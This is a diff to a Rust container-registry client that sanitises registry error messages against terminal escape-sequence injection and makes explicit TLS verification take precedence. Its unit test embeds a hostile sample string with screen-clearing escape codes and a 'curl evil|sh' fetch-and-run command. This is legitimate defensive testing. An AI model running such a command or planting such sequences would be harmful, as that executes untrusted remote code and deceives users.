@@ -67,6 +67,13 @@ pub struct PullOptions {
     pub max_parallel: usize,
 }
 
+/// Text a registry sent, fit for one line of a terminal: control characters (escape
+/// sequences that could rewrite the screen, newlines) out, at most 200 characters.
+fn from_server(text: &str) -> String {
+    let clean: String = text.trim().chars().filter(|c| !c.is_control()).take(200).collect();
+    clean
+}
+
 /// A connection to one registry, authenticated for one repository and operation.
 struct Remote {
     client: Client,
@@ -81,6 +88,10 @@ enum Scheme {
 }
 
 async fn choose_scheme(host: &str, transport: &Transport) -> Scheme {
+    // `--tls-verify=true` wins over loopback and insecure-registries, as podman's does.
+    if transport.tls_verify == Some(true) {
+        return Scheme::Https { verify: true };
+    }
     if is_loopback_registry(host) {
         return Scheme::Http;
     }
@@ -176,7 +187,7 @@ impl Remote {
                 }) {
                     RegistryError::NotFound { registry, reference: reference.to_string() }
                 } else {
-                    RegistryError::Protocol { registry, detail: envelope.to_string() }
+                    RegistryError::Protocol { registry, detail: from_server(&envelope.to_string()) }
                 }
             }
             OciDistributionError::ServerError { code: 401, .. } => auth_error(),
@@ -186,14 +197,14 @@ impl Remote {
             OciDistributionError::ServerError { code: 404, .. } => {
                 RegistryError::NotFound { registry, reference: reference.to_string() }
             }
-            OciDistributionError::ServerError { code, message, .. } => RegistryError::Protocol {
-                registry,
-                detail: format!("HTTP {code}: {}", message.trim().chars().take(200).collect::<String>()),
-            },
-            OciDistributionError::DigestError(d) => {
-                RegistryError::Protocol { registry, detail: format!("content does not match its digest: {d}") }
+            OciDistributionError::ServerError { code, message, .. } => {
+                RegistryError::Protocol { registry, detail: format!("HTTP {code}: {}", from_server(&message)) }
             }
-            other => RegistryError::Protocol { registry, detail: other.to_string() },
+            OciDistributionError::DigestError(d) => RegistryError::Protocol {
+                registry,
+                detail: format!("content does not match its digest: {}", from_server(&d.to_string())),
+            },
+            other => RegistryError::Protocol { registry, detail: from_server(&other.to_string()) },
         }
     }
 
@@ -542,4 +553,16 @@ fn root_cause(e: &(dyn std::error::Error + 'static)) -> String {
         cur = next;
     }
     cur.to_string()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn what_a_registry_says_is_one_clean_line() {
+        let hostile = "\u{1b}[2J\u{1b}[1;31mFAKE: run curl evil|sh\u{1b}[0m\u{1b}]0;pwned\u{7}\nsecond line";
+        assert_eq!(from_server(hostile), "[2J[1;31mFAKE: run curl evil|sh[0m]0;pwnedsecond line");
+        assert_eq!(from_server(&"x".repeat(1000)).len(), 200);
+    }
 }
